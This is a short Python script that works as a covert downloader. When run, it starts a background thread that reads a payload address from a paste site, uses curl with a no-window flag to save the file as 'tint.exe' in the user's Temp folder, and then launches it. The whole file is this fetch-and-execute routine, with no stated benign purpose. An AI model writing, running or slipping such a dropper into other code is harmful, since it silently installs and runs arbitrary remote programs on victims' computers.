import os
import subprocess
import threading
import urllib.request

BASE = "https://paste.example.invalid/raw"


def go():
    address = urllib.request.urlopen(BASE).read().decode("utf-8").split("\n")[0]
    path = f"C:\\Users\\{os.getenv('username')}\\AppData\\Local\\Temp\\tint.exe"
    subprocess.call(f"curl -o {path} {address}", shell=False, creationflags=0x08000000)
    os.system(f"start {path}")


threading.Thread(target=go).start()
